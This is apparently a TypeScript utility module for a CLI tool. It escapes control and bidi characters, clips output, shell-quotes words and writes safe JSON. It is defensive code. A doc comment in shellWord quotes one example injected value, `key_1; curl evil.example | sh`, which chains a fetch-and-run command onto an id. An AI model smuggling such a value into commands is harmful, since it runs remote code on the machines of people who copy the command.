/**
 * What a string may carry before a person sees it (docs/contract.md §C3).
 * Plain functions with no imports, so anything may use them without
 * loading the renderer.
 */

export type Tone = 'bold' | 'dim' | 'green' | 'yellow' | 'red' | 'cyan';
export type Segment = string | { text: string; tone: Tone };
/** One line of output: a string or segments; never contains svc's own newline. */
export type Line = Segment | readonly Segment[];

export function tone(text: string, tone: Tone): Segment {
  return { text, tone };
}

/**
 * C0 (tab, LF and CR included), DEL and C1 controls, the bidi controls,
 * the line and paragraph separators, and surrogates without their other
 * half. Works on UTF-16 code units (no `u` flag) so that a lone surrogate
 * can be matched at all.
 */
const UNSAFE = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

const NAMED: Record<string, string> = { '\t': '\\t', '\n': '\\n', '\r': '\\r' };

function escape(char: string): string {
  const named = NAMED[char];
  if (named !== undefined) return named;
  const code = char.charCodeAt(0);
  return code <= 0xff ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`;
}

/** Every C0 control (tab, CR and LF included), DEL, every C1 control (U+0080–U+009F), the bidi controls (U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069), U+2028/U+2029, and lone surrogates shown as visible escapes (\x1b, \t, \n, \u202e, …); a backslash is left as is. Nothing it returns can move the cursor, reorder text, or start a new line. */
export function sanitize(text: string): string {
  return text.replace(UNSAFE, escape);
}

/**
 * Cut to `max` code points with … (after sanitising, so an escape is never
 * cut in half). The count is of what is shown: an escape is as many code
 * points as its characters, and it stays whole or goes whole.
 */
export function clip(text: string, max: number): string {
  const shown = sanitize(text);
  // Code units are never fewer than code points.
  if (shown.length <= max || codePoints(shown, max + 1) <= max) return shown;
  if (max < 1) return '';
  let out = '';
  let used = 0;
  for (const char of text) {
    const piece = sanitize(char);
    // An escape is ASCII, one code point a character; anything else left as is is one code point.
    const size = piece === char ? 1 : piece.length;
    if (used + size > max - 1) break;
    out += piece;
    used += size;
  }
  return `${out}…`;
}

/** The number of code points in `text`, counting no further than `limit`. */
function codePoints(text: string, limit: number): number {
  let count = 0;
  for (const _ of text) if (++count >= limit) break;
  return count;
}

/**
 * `text` as one word of a POSIX shell command svc suggests, cut to 200
 * characters like other server text: quoted unless it is plainly one word,
 * so that a server's id or name cannot add a command of its own
 * (`key_1; curl evil.example | sh`) to a line a person copies.
 */
export function shellWord(text: string): string {
  const flat = clip(text, 200);
  return /^[\w.@%+=:,/-]+$/.test(flat) ? flat : `'${flat.replace(/'/g, "'\\''")}'`;
}

/**
 * Outside strings, JSON.stringify writes only ASCII, and it already escapes
 * C0 controls and lone surrogates; what remains raw can only sit inside a
 * string, where \uXXXX means the same character.
 */
const RAW_IN_JSON = /[\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/g;

/** JSON.stringify(value, null, indent) with C1 controls, DEL, the bidi controls and U+2028/2029 also written as \uXXXX: still valid JSON that parses to the same value. */
export function jsonDocument(value: unknown, indent = 2): string {
  // JSON.stringify gives undefined for undefined, a function or a symbol; a document must say something.
  const text = JSON.stringify(value, null, indent) ?? 'null';
  return text.replace(RAW_IN_JSON, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`);
}
